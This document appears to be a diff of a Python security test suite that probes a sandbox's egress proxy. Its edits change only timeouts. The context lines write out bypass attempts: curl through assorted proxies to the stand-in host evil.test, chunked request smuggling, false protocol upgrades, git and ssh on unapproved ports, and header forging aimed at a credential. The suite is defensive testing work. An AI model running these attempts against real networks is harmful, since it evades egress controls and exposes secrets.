@@ -12,7 +12,7 @@ from hostile_servers import do
 OK = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
 
 
-@attack("C11", "C12", "C13", "D10", conditions=("partial",), quick=True)
+@attack("C11", "C12", "C13", "D10", conditions=("partial",), seconds=150)
 def proxies(t):
     """Absolute URLs, CONNECT, an allowed host that is itself a proxy"""
     world = t.world
@@ -32,7 +32,7 @@ def proxies(t):
     for url in ("http://evil.test/{m}", "https://evil.test/{m}"):
         for proxy in ("http://proxy.test:80", "https://proxy.test:443", "socks5h://proxy.test:80", "socks4a://proxy.test:80", "socks5h://allowed.test:5432"):
             gate.attempt(f"curl {url} through {proxy}", command(f"curl -k -sS -m 6 -x {proxy} {url}"), lambda seen: seen.at("evil", "proxy"))
-    gate.go(limit=120)
+    gate.go()
     t.control("the proxy is open to whoever reaches it", reach_through_proxy(world), "")
 
 
@@ -54,7 +54,7 @@ LENGTHS = {
 }
 
 
-@attack("C15", "C16", "C17", conditions=("partial",), quick=True)
+@attack("C15", "C16", "C17", conditions=("partial",), seconds=150, quick=True)
 def lengths(t):
     """Lengths and codings that disagree, chunks that lie"""
     world = t.world
@@ -76,11 +76,11 @@ def lengths(t):
     for what, body in chunks.items():
         gate.attempt(f"C17: {what}", raw("odd.test", f"POST /c17 HTTP/1.1\r\nHost: odd.test\r\nTransfer-Encoding: chunked\r\n\r\n{body}", all=True, wait=3),
                      lambda seen: smuggled(seen) or any(entry.get("headers", {}).get("X-Trailer") for entry in seen.arrived))
-    gate.go(limit=120)
+    gate.go()
     t.attempt("a request inside a body was carried out", [entry for entry in world.net.since(world.mark) if str(entry.get("path", "")).startswith("/smuggled")])
 
 
-@attack("C19", "C35", "C21", "C20", conditions=("partial",))
+@attack("C19", "C35", "C21", "C20", conditions=("partial",), seconds=150)
 def answers(t):
     """Early answers, interim answers without end, false upgrades, HTTP/2 in the clear"""
     world = t.world
@@ -112,7 +112,7 @@ def answers(t):
     for what, send in {"an upgrade": "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", "prior knowledge": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0{m}",
                        "an upgrade to TLS": "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: TLS/1.0\r\n\r\n"}.items():
         gate.attempt(f"C20: {what}", raw("allowed.test", send, wait=3), lambda seen: seen.status == "101" or any("Upgrade" in str(entry.get("headers", "")) for entry in seen.arrived) or "raw" in str(seen.arrived))
-    gate.go(limit=120)
+    gate.go()
 
 
 def followed(seen):
@@ -121,7 +121,7 @@ def followed(seen):
     return [entry for entry in seen.arrived if entry.get("path", "").startswith("/next") and entry["connection"] in first]
 
 
-@attack("C23", "C33", conditions=("partial",))
+@attack("C23", "C33", conditions=("partial",), seconds=150)
 def grammars(t):
     """Other versions, methods, lengths; protocols that are not HTTP on ports that nobody allowed"""
     gate = Gate(t, t.world.sandbox())
@@ -145,10 +145,10 @@ def grammars(t):
             gate.attempt(f"C33: {what} on port {port}", raw("allowed.test", send, port=port, wait=2))
     gate.attempt("C33: git clone git://", command("timeout 8 git clone -q git://allowed.test/{m}"))
     gate.attempt("C33: ssh on 443", command("timeout 8 ssh -p 443 -o BatchMode=yes -o StrictHostKeyChecking=no {m}@allowed.test true"))
-    gate.go(limit=120)
+    gate.go()
 
 
-@attack("C24", "C25", "D05", conditions=("partial",), quick=True)
+@attack("C24", "C25", "D05", conditions=("partial",), seconds=150, quick=True)
 def methods_and_paths(t):
     """Paths that mean another one, methods under another name, bodies on GET, very long queries"""
     world = t.world
@@ -173,7 +173,7 @@ def methods_and_paths(t):
         gate.attempt(f"C25: {method} with a body in chunks", raw("read.test", f"{method} /{{m}} HTTP/1.1\r\nHost: read.test\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nsecret\r\n0\r\n\r\n"))
     gate.attempt("D05: a query beyond the limit of targets", get("read.test", "/{m}?" + "q" * 16400))
     marker = gate.control("D05: a query of 8 kB passes, as documented: a policy of methods keeps nothing in", get("read.test", "/{m}?" + "q" * 8000))
-    gate.go(limit=120)
+    gate.go()
     with world.attacker.events(f"{world.sandbox().path}/egress/log") as stream:
         t.attempt("D05: what was asked for is not in the log", not any(event.data.get("path") == "/" + marker for event in stream))
 
@@ -190,7 +190,7 @@ def leads_out(path):
     return parts[:1] != ["public"] or ".." in plain.split("/")
 
 
-@attack("C28", "C29", "C32", conditions=("partial",))
+@attack("C28", "C29", "C32", conditions=("partial",), seconds=150)
 def fields(t):
     """Fields for one hop, fields that forge where a request came from, bodies that grow"""
     world, secret = t.world, t.world.secrets["a credential"]
@@ -211,7 +211,7 @@ def fields(t):
     for coding in ("br", "zstd", "compress", "gzip, gzip", "gzip, br", "identity, gzip", "gzip;q=1", "x"):
         gate.attempt(f"C32: the coding {coding!r}", get("odd.secret.test", do(labelled.format(coding) + plain), sni="odd.secret.test"), lambda seen: seen.status == "200")
     gate.attempt("C32: said to be compressed, and is not", get("odd.secret.test", do(labelled.format("gzip") + plain), sni="odd.secret.test"), lambda seen: "hello" in seen.out)
-    gate.go(limit=120)
+    gate.go()
     before = worker_memory(world)
     gate = Gate(t, world.sandbox())
     size = 10000 if world.long else 200
